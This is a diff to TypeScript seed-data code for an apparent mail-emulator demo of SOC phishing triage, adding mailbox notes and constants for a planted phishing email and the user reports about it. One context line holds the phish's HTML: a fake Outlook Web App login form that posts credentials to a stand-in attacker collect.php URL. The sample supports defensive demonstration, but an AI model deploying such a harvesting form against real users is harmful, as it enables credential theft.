@@ -20,6 +20,27 @@ export const DEMO_MAILBOXES = {
 } as const;
 /** The demo's default mailbox (the SOC's shared mailbox). */
 export const DEMO_MAILBOX = DEMO_MAILBOXES.soc;
+/** What each mailbox holds, in a few words (the demo's first screen names them). */
+export const DEMO_MAILBOX_NOTES: Record<keyof typeof DEMO_MAILBOXES, string> = {
+  soc: "the SOC's shared mailbox, the default",
+  alice: 'received the phish',
+  bob: 'a colleague',
+  phish: 'where users report phishing',
+};
+/** The planted phish: received by Alice, reported by her to phish@ with the original attached. */
+export const DEMO_PHISH = {
+  subject: 'Action required: your mailbox is almost full',
+  sender: 'it-support@contoso-helpdesk.co',
+  mailbox: DEMO_MAILBOXES.alice,
+  reportedTo: DEMO_MAILBOXES.phish,
+  /** Every report's subject begins so. */
+  reportSubject: 'Phishing report',
+} as const;
+/** The mailboxes (with notes) and the planted phish, as the demo's tour uses them. */
+export const DEMO_FACTS = {
+  mailboxes: (Object.keys(DEMO_MAILBOXES) as Array<keyof typeof DEMO_MAILBOXES>).map((k) => ({ address: DEMO_MAILBOXES[k], note: DEMO_MAILBOX_NOTES[k] })),
+  phish: DEMO_PHISH,
+};
 /** A seeded user without a mailbox (Graph answers MailboxNotEnabledForRESTAPI). */
 export const DEMO_USER_WITHOUT_MAILBOX = 'svc-scanner@demo.onmicrosoft.com';
 
@@ -88,8 +109,8 @@ export function addDemoData(state: EmulatorState, now: Date = new Date()): void 
     '<html><body><form action="http://contoso-helpdesk.co/owa/collect.php" method="post"><p>Outlook Web App</p>' +
     '<input name="user" placeholder="Email"><input name="pass" type="password" placeholder="Password"><button>Sign in</button></form></body></html>';
   const original = state.addMessage(DEMO_MAILBOXES.alice, 'inbox', {
-    subject: 'Action required: your mailbox is almost full',
-    from: 'IT Service Desk <it-support@contoso-helpdesk.co>',
+    subject: DEMO_PHISH.subject,
+    from: `IT Service Desk <${DEMO_PHISH.sender}>`,
     to: [DEMO_MAILBOXES.alice],
     body: phishHtml,
     receivedDateTime: ago(180),
@@ -135,7 +156,7 @@ export function addDemoData(state: EmulatorState, now: Date = new Date()): void 
 
   // phish@: user-reported phishing, an .eml file attachment and an Outlook item attachment.
   state.addMessage(DEMO_MAILBOXES.phish, 'inbox', {
-    subject: 'Phishing report: Action required: your mailbox is almost full',
+    subject: `${DEMO_PHISH.reportSubject}: ${DEMO_PHISH.subject}`,
     from: 'Alice Martin <alice@demo.onmicrosoft.com>',
     to: [DEMO_MAILBOXES.phish],
     body: 'I think this is phishing. The sender is not our IT department. Original attached.\n\nAlice',
@@ -171,7 +192,7 @@ export function addDemoData(state: EmulatorState, now: Date = new Date()): void 
     ],
   });
   state.addMessage(DEMO_MAILBOXES.phish, 'Inbox/Phishing/Reported', {
-    subject: 'Phishing report: Password expiry notice',
+    subject: `${DEMO_PHISH.reportSubject}: Password expiry notice`,
     from: 'Bob Chen <bob@demo.onmicrosoft.com>',
     to: [DEMO_MAILBOXES.phish],
     body: 'Another one. Triaged already.',
